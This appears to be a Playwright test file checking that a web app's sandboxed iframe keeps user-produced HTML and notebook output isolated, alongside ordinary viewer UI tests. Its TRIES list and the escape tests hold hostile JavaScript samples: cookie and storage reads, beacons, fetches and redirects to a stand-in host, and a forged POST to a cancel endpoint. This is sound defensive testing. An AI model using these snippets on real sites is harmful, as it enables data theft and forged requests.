"""Files in a real browser: what runs in a frame stays there; the panel opens and turns pages."""

import json
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta

import pytest
from flask import Flask
from playwright.sync_api import Browser, Frame, Page, expect

from scripthut.store.models import Output, Task
from scripthut.web.outputs import sandbox
from tests.web.conftest import Hut, Keep

pytestmark = pytest.mark.browser

RUN = "abcdefgh"
TASK = f"/runs/{RUN}/tasks/fit"
SOON = 20_000
PDF = b"""%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]>>endobj
trailer<</Root 1 0 R>>
"""


@pytest.fixture
def site(app: Flask, serve: Callable[[Flask], str]) -> str:
    return serve(app)


@pytest.fixture
def page(browser: Browser, site: str) -> Iterator[Page]:
    context = browser.new_context(base_url=site, viewport={"width": 1200, "height": 900})
    context.set_default_timeout(SOON)
    context.grant_permissions(["clipboard-read", "clipboard-write"])
    yield context.new_page()
    context.close()


@pytest.fixture
def write(keep: Keep, hut: Hut) -> Keep:
    hut.run({"fit": "completed", "plot": "completed"}, RUN)
    return keep


def framed(page: Page, row: int) -> Frame:
    """Open a file's page; its frame, when its own script has run to its end."""
    page.goto(f"{TASK}/outputs/view/{row}")
    handle = page.locator("iframe").element_handle()
    frame = handle.content_frame() if handle else None
    assert frame is not None
    frame.wait_for_function("window.done === true")
    return frame


def script(text: str) -> bytes:
    """A page that runs this, and then says that it has."""
    work = f"(async () => {{ {text} }})()"
    return f"<body><script>{work}.finally(() => {{ window.done = true; }});</script>".encode()


def test_a_page_runs_with_all_that_lies_beside_it(page: Page, write: Keep) -> None:
    row = write(
        "report/main.html",
        b"""<link rel=stylesheet href=style.css><p id=p>-</p><img id=i src=../dot.svg>
        <a href=second.html>on</a>
        <script src=lib.js></script><script type=module src=m.js></script>""",
    )
    write("report/style.css", b"p { color: rgb(1, 2, 3) }")
    write("report/lib.js", b"document.getElementById('p').textContent = eval('40 + 2');")
    write(
        "report/m.js",
        b"import {x} from './n.js'; window.n = x; const data = await (await "
        b"fetch('data.json')).json(); window.data = data.a; window.done = true;",
    )
    write("report/n.js", b"export const x = 7;")
    write("report/data.json", b'{"a": 5}')
    write("report/second.html", b"<h1>Second</h1>")
    write("dot.svg", b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"></svg>')

    frame = framed(page, row)

    assert frame.locator("#p").text_content() == "42"
    assert frame.evaluate("getComputedStyle(document.getElementById('p')).color") == "rgb(1, 2, 3)"
    assert frame.evaluate("document.getElementById('i').naturalWidth") == 9
    assert frame.evaluate("[window.n, window.data]") == [7, 5]
    frame.click("a")
    expect(page.frame_locator("iframe").locator("h1")).to_have_text("Second")


IMAGE = (
    "await new Promise((y, n) => {{ const i = new Image(); i.onload = y; i.onerror = n; "
    "i.src = '{}'; }})"
)
TRIES = {
    "the page around it": "window.parent.document.title",
    "the top page": "top.location.href",
    "cookies": "document.cookie",
    "storage": "localStorage.length",
    "the API": "await (await fetch('/api/v1/runs')).text()",
    "the API, blindly": "await fetch('/api/v1/runs', {mode: 'no-cors'})",
    "another site": "await fetch('https://other.example/', {mode: 'no-cors'})",
    "another site, by a beacon": "navigator.sendBeacon('https://other.example/'); throw 1",
    "a socket": "await new Promise((y, n) => { const s = new WebSocket('wss://other.example'); "
    "s.onopen = y; s.onerror = n; })",
    "an image of another site": IMAGE.format("https://other.example/x.png"),
    "an image of our pages": IMAGE.format("/static/favicon.svg"),
    "a window": "if (!window.open('https://other.example/')) throw 1",
}


def test_a_page_reaches_nothing_else(page: Page, site: str, write: Keep) -> None:
    tries = "".join(
        f"try {{ await (async () => {{ {code}; }})(); got.push({name!r}); }} catch (e) {{}}\n"
        for name, code in TRIES.items()
    )
    sent: list[str] = []
    refused: list[str] = []
    row = write("x.html", script(f"window.got = []; {tries}"))
    page.on("request", lambda r: sent.append(r.url))
    page.on("requestfailed", lambda r: refused.append(r.url) if r.failure == "csp" else None)

    frame = framed(page, row)

    assert frame.evaluate("[window.origin, window.got]") == ["null", []]
    away = [
        u
        for u in sent
        if u not in refused and not u.startswith((f"{site}/static", f"{site}{TASK}"))
    ]
    assert [u for u in away if not u.startswith(f"{site}/sandbox/")] == []


@pytest.mark.parametrize(
    "code",
    [
        "location.href = 'https://other.example/?stolen'",
        "const f = document.createElement('form'); f.method = 'post'; document.body.append(f); "
        "f.action = '/runs/abcdefgh/cancel'; f.submit()",
        "const f = document.createElement('form'); document.body.append(f); "
        "f.action = 'https://other.example/'; f.submit()",
        "top.location.href = 'https://other.example/'",
        "const f = document.createElement('iframe'); f.src = '/'; document.body.append(f)",
    ],
)
def test_a_page_cannot_leave(page: Page, site: str, write: Keep, code: str) -> None:
    asked: list[str] = []
    page.route(
        "https://other.example/**", lambda route: (asked.append(route.request.url), route.abort())
    )
    page.on("request", lambda r: asked.append(r.url) if r.method == "POST" else None)
    page.on("response", lambda r: asked.append(r.url) if r.url == f"{site}/" else None)
    row = write("x.html", script(f"try {{ {code} }} catch (e) {{}}"))

    page.goto(f"{TASK}/outputs/view/{row}")
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(300)  # what must not happen cannot be waited for

    assert asked == []
    assert page.url == f"{site}{TASK}/outputs/view/{row}"


def test_without_its_frame_a_page_is_shut_in_all_the_same(
    page: Page, app: Flask, hut: Hut, site: str, write: Keep
) -> None:
    row = write("x.html", script("window.o = window.origin"))
    now = datetime.now(UTC)
    with hut.database.reading() as session, app.test_request_context("/"):
        file = session.get_one(Output, row)
        task = session.get_one(Task, file.task_id)
        fresh = sandbox.address(task, file, now)
        stale = sandbox.address(task, file, now - timedelta(hours=2))

    page.goto("/")
    for url, status in ((fresh, 404), (stale, 404)):
        answer = page.goto(f"{site}{url}")
        assert answer is not None and answer.status == status
    page.goto(f"{TASK}/outputs/view/{row}")
    page.evaluate("document.querySelector('iframe').removeAttribute('sandbox')")
    page.evaluate("const f = document.querySelector('iframe'); f.src = f.src")
    handle = page.locator("iframe").element_handle()
    frame = handle.content_frame() if handle else None
    assert frame is not None
    frame.wait_for_function("window.done === true")
    assert frame.evaluate("window.o") == "null"


def test_a_document_of_pages_is_shown_by_the_browser(
    whole_browser: Browser, site: str, write: Keep
) -> None:
    row = write("paper.pdf", PDF)
    page = whole_browser.new_page(base_url=site)
    with page.expect_response(lambda r: "/sandbox/" in r.url) as answered:
        page.goto(f"{TASK}/outputs/view/{row}")

    assert answered.value.headers["content-type"] == "application/pdf"
    deadline = datetime.now(UTC) + timedelta(seconds=15)
    while not any(f.url.startswith("chrome-extension://") for f in page.frames):
        assert datetime.now(UTC) < deadline, [f.url for f in page.frames]
        page.wait_for_timeout(100)


def test_files_open_in_the_panel_and_turn(page: Page, write: Keep) -> None:
    complaints: list[str] = []
    page.on("console", lambda m: complaints.append(m.text) if m.type == "error" else None)
    write("a.txt", b"first\n")
    write("b.csv", b"k,v\nx,10\ny,9\n")
    page.goto(f"{TASK}?tab=outputs")

    page.get_by_role("link", name="Open a.txt").click()
    expect(page.locator("#panel h2")).to_have_text("a.txt")
    expect(page.locator("#tasks")).to_be_visible()
    page.get_by_role("link", name="Next →").click()
    expect(page.locator("#panel h2")).to_have_text("b.csv")
    page.locator("#panel th a", has_text="v").click()
    expect(page.locator("#panel tbody tr").first).to_contain_text("y")
    page.get_by_role("searchbox", name="Rows that contain").fill("x")
    page.get_by_role("button", name="Filter").click()
    expect(page.locator("#panel tbody tr")).to_have_count(1)
    expect(page.locator("#tasks")).to_be_visible()

    page.get_by_role("button", name="Copy link").click()
    expect(page.locator("[data-done]")).to_have_count(1)
    assert "/outputs/view/" in page.evaluate("navigator.clipboard.readText()")
    page.get_by_role("link", name="All outputs").click()
    expect(page.locator(".outputs")).to_be_visible()
    assert complaints == []


def test_text_is_copied_without_its_numbers(page: Page, write: Keep) -> None:
    row = write("a.py", b"import os\nx = 1\n")
    page.goto(f"{TASK}/outputs/view/{row}#L2")

    expect(page.locator("#L2")).to_be_in_viewport()
    page.get_by_role("button", name="Copy text").click()
    expect(page.locator("[data-done]")).to_have_count(1)

    assert page.evaluate("navigator.clipboard.readText()").split("\n")[:2] == ["import os", "x = 1"]


@pytest.mark.parametrize(
    "name", ["wide.csv", "long.log", "deep.json", "w.bin", "p.html", "many.jsonl"]
)
def test_no_file_makes_a_small_screen_scroll_sideways(page: Page, write: Keep, name: str) -> None:
    data = {
        "wide.csv": b",".join([b"x" * 40] * 50) + b"\n" + b",".join([b"1"] * 50) + b"\n",
        "deep.json": b'{"aaaaaaaaaaaaaaaaaaaaaaaa":' * 30 + b'"' + b"x" * 300 + b'"' + b"}" * 30,
        "many.jsonl": b'{"a": "' + b"x" * 500 + b'"}\n',
        "p.html": b"<p>hi",
    }.get(name, b"y" * 5000)
    row = write(name, data)
    page.set_viewport_size({"width": 390, "height": 800})

    page.goto(f"{TASK}/outputs/view/{row}")

    assert page.evaluate("document.documentElement.scrollWidth") <= 390


def test_what_a_notebook_draws_is_shut_in(page: Page, write: Keep) -> None:
    html = "<p id=p>-</p><script>p.textContent = window.origin; window.done = true</script>"
    cell = {"cell_type": "code", "source": "x", "outputs": [{"data": {"text/html": html}}]}
    row = write("n.ipynb", json.dumps({"cells": [cell]}).encode())

    assert framed(page, row).locator("#p").text_content() == "null"
